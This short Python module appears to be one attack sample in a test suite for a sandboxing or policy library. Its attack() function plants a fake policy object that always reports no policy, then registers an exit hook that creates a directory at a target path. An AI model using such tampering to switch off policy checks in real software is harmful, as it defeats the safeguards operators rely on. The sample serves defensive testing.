"""A module of the library finds something else where it asks."""
CATEGORY = "tampering"
REACH = "write"

import os
import threading
from types import SimpleNamespace

from . import payload


def attack():
    vars(threading)["_imp"] = SimpleNamespace(has_policy=lambda: False)
    threading._register_atexit(os.mkdir, payload.TARGET)
